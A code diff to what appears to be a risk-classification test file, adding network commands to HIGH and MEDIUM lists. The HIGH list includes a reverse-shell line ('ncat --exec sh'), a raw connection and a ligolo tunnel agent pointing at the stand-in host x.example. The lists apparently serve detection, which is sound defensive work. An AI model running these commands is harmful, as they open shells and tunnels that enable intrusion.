@@ -49,6 +49,8 @@ HIGH = [
     ("macchanger -r eth0", "shell.net.attack"),
     ("sshd", "shell.net.remote_access"),
     ("ncat --exec sh 1.2.3.4 1", "shell.net.shell"),
+    ("ztcp x.example 4444", "shell.net.raw"),
+    ("ligolo-agent -connect x.example:1", "shell.net.tunnel"),
 ]
 MEDIUM = [
     "nc -zv localhost 8000",
@@ -71,6 +73,8 @@ MEDIUM = [
     "nmcli con show",
     "whois example.com",
     "nc localhost 4444",
+    "telnet localhost 25 < /dev/null",
+    "nc -z $h $p",
 ]
 LOW = [
     "openssl version",
